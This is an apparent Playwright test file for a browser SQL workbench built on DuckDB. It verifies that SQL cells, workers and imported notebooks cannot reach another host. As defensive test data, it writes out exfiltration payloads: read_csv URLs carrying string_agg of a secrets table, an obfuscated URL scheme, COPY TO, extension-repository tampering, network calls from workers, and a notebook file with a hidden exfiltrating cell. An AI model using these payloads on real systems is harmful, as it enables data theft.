/**
 * Journey: a hostile user (or a hostile notebook file) tries every way out of
 * the tab. A local server on another port stands in for the other host and
 * counts what reaches it: it must stay at zero, and the user sees why.
 */
import { spawn } from 'node:child_process';
import type { Locator, Page } from '@playwright/test';
import { startCountingServer, type CountingServer } from '../shared/counting-server';
import { expect, loadFiles, startEmpty, test } from './fixtures';

let other: CountingServer;
test.beforeAll(async () => (other = await startCountingServer()));
test.afterAll(() => other.close());

const NEVER = /never reads or writes other hosts: ".+" was not contacted/;

/** SQL a hostile user types, and what the cell must answer. */
const attacks = (o: string): [string, RegExp][] => [
	[`SELECT * FROM '${o}/x.csv'`, NEVER],
	[`SELECT * FROM read_csv('${o}/x.csv?d=' || (SELECT string_agg(email, ';') FROM secrets))`, NEVER],
	[`SELECT * FROM read_csv('ht' || 'tp://${o.slice(7)}/x.csv?d=' || (SELECT string_agg(email, ';') FROM secrets))`, NEVER],
	[`COPY (SELECT * FROM secrets) TO '${o}/out.csv'`, NEVER],
	[
		`SET autoinstall_known_extensions=true; SET autoload_known_extensions=true; SET custom_extension_repository='${o}'; SELECT * FROM read_json_auto('x.json')`,
		/"autoinstall_known_extensions" is fixed here/
	],
	[`SELECT * FROM read_json_auto('x.json')`, /json extension, which this workbench does not load/],
	[`ATTACH '${o}/x.db'`, /ATTACH is not available/],
	[`SELECT 1; INSTALL httpfs`, /INSTALL is not available/]
];

async function runSqlInNewCell(page: Page, index: number, sql: string): Promise<Locator> {
	await page.getByRole('button', { name: '+ SQL' }).click();
	const cell = page.locator('[data-cell-type="sql"]').nth(index);
	await cell.getByRole('textbox', { name: 'SQL query' }).click();
	await page.keyboard.press('ControlOrMeta+a');
	await page.keyboard.insertText(sql);
	await page.keyboard.press('Control+Enter');
	return cell;
}

/** Tries fetch, XMLHttpRequest, WebSocket, EventSource and import() inside a worker; returns what happened to each. */
function tryEveryWayOut(origin: string): Promise<Record<string, string>> {
	const attempt = async (run: () => unknown | Promise<unknown>) => {
		try {
			await run();
			return 'sent';
		} catch (e) {
			return (e as Error).message || String(e);
		}
	};
	return (async () => ({
		fetch: await attempt(() => fetch(`${origin}/fetch`)),
		request: await attempt(() => fetch(new Request(`${origin}/request`))),
		xhr: await attempt(() => {
			const xhr = new XMLHttpRequest();
			xhr.open('GET', `${origin}/xhr`, false);
			xhr.send();
		}),
		webSocket: await attempt(() => new WebSocket(`${origin.replace('http', 'ws')}/ws`)),
		eventSource: await attempt(() => new EventSource(`${origin}/events`)),
		import: await attempt(() => import(/* @vite-ignore */ `${origin}/module.js`))
	}))();
}

test('SQL, workers and imported notebooks never reach another host', async ({ page, watch }) => {
	const workerPolicies = new Map<string, string | undefined>();
	page.on('response', (response) => {
		if (/\/workers\/[^/]+\.js$/.test(new URL(response.url()).pathname)) workerPolicies.set(response.url(), response.headers()['content-security-policy']);
	});

	await startEmpty(page);
	await loadFiles(page, { name: 'secrets.csv', mimeType: 'text/csv', buffer: Buffer.from('email,mrr\nann@example.com,10\nbob@example.com,20\n') });
	await expect(page.locator('[data-cell-type="data"]').getByTestId('table-shape')).toHaveText('2 rows × 2 columns');

	// Every SQL way out is refused with a message that says why; nothing is sent.
	const cases = attacks(other.origin);
	for (const [index, [sql, message]] of cases.entries()) {
		const cell = await runSqlInNewCell(page, index, sql);
		await expect(cell.getByRole('alert'), sql).toContainText(message);
	}
	await expect(page.locator('[data-cell-type="sql"]').getByText('Statement executed.')).toHaveCount(0);

	// Both workers run under the page's policy (HTTP header) and refuse every way out.
	const workerStarted = page.waitForEvent('worker');
	await page.getByRole('button', { name: 'Compute check' }).click();
	await workerStarted;
	await expect.poll(() => page.workers().length).toBeGreaterThanOrEqual(2);
	for (const worker of page.workers()) {
		const outcome = await worker.evaluate(tryEveryWayOut, other.origin);
		for (const [way, result] of Object.entries(outcome)) {
			expect(result, `${way} from ${worker.url()}`).not.toBe('sent');
		}
		expect(outcome.fetch).toContain('never contacts other hosts');
		expect(outcome.xhr).toContain('never contacts other hosts');
	}
	expect(workerPolicies.size).toBeGreaterThanOrEqual(2);
	for (const [url, policy] of workerPolicies) expect(policy, url).toMatch(/connect-src 'self' blob: data:/);
	// import() is beyond any script's reach: the policy itself stopped it, in each worker.
	await expect.poll(() => watch.blockedByPolicy.filter((url) => url.endsWith('/module.js')).length).toBe(page.workers().length);

	// A notebook file whose collapsed SQL cell would send data out: opening it runs nothing.
	const evilSql = `SELECT * FROM read_csv('${other.origin}/x.csv?d=' || (SELECT string_agg(table_name, ';') FROM duckdb_tables()))`;
	const notebook = {
		format: 'crm-workbench-notebook',
		version: 1,
		id: 'nb_quarterly',
		title: 'Quarterly review',
		cells: [
			{ id: 'c_intro', type: 'markdown', title: '', collapsed: false, params: { text: `# Quarterly review\n\n![logo](${other.origin}/pixel.png)` } },
			{ id: 'c_totals', type: 'sql', title: 'Totals', collapsed: true, params: { sql: evilSql, view: 'totals' } }
		]
	};
	await page.getByTestId('notebook-input').setInputFiles({ name: 'quarterly.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(notebook)) });
	const prompt = page.getByRole('region', { name: /opened from a file: nothing in it has run/ });
	await expect(prompt).toContainText('Totals (collapsed): runs SQL, saved as totals:');
	await expect(prompt).toContainText(evilSql);
	await expect(page.locator('[data-cell-id="c_totals"]')).toBeVisible();

	// Still untrusted after a reload, and still nothing runs.
	await page.reload();
	await expect(prompt).toBeVisible();

	// Trusted and run, the query is refused by DuckDB itself: the user sees why.
	await prompt.getByRole('button', { name: 'Trust and run all' }).click();
	await expect(prompt).toHaveCount(0);
	const totals = page.locator('[data-cell-id="c_totals"]');
	await totals.getByRole('button', { name: 'Expand' }).click();
	await expect(totals.getByRole('alert')).toContainText(NEVER);

	expect(other.hits).toEqual([]);
});

test('on a host that sends no security headers, the page’s own policy still governs both workers', async ({ browser }) => {
	// The same build from a plain static server (no CSP header): only the page's <meta> policy exists.
	const port = Number(process.env.E2E_PORT ?? 4174) + 20;
	const plain = spawn('node', ['scripts/serve.mjs', String(port), '--plain'], { stdio: 'ignore' });
	const context = await browser.newContext({ serviceWorkers: 'block' });
	try {
		const home = `http://localhost:${port}`;
		await expect.poll(async () => (await fetch(`${home}/`).catch(() => null))?.status ?? 0).toBe(200);
		const response = await fetch(`${home}/`);
		expect(response.headers.get('content-security-policy')).toBeNull();

		const page = await context.newPage();
		const blocked: string[] = [];
		context.on('requestfailed', (request) => {
			if (request.failure()?.errorText === 'csp') blocked.push(request.url());
		});
		await page.goto(`${home}/`);
		await page.getByRole('button', { name: 'Start empty' }).click();
		await loadFiles(page, { name: 'secrets.csv', mimeType: 'text/csv', buffer: Buffer.from('email,mrr\nann@example.com,10\nbob@example.com,20\n') });
		await expect(page.locator('[data-cell-type="data"]').getByTestId('table-shape')).toHaveText('2 rows × 2 columns');
		await page.getByRole('button', { name: 'Compute check' }).click();
		await expect.poll(() => page.workers().length).toBeGreaterThanOrEqual(2);
		for (const worker of page.workers()) {
			expect(worker.url(), 'workers start from a blob: bootstrap').toMatch(/^blob:/);
			const outcome = await worker.evaluate(tryEveryWayOut, other.origin);
			for (const [way, result] of Object.entries(outcome)) expect(result, `${way} from a worker`).not.toBe('sent');
		}
		// No script can wrap import(): only the inherited policy stops it, in each worker.
		await expect.poll(() => blocked.filter((url) => url.endsWith('/module.js')).length).toBe(page.workers().length);
		expect(other.hits).toEqual([]);
	} finally {
		await context.close();
		plain.kill();
	}
});
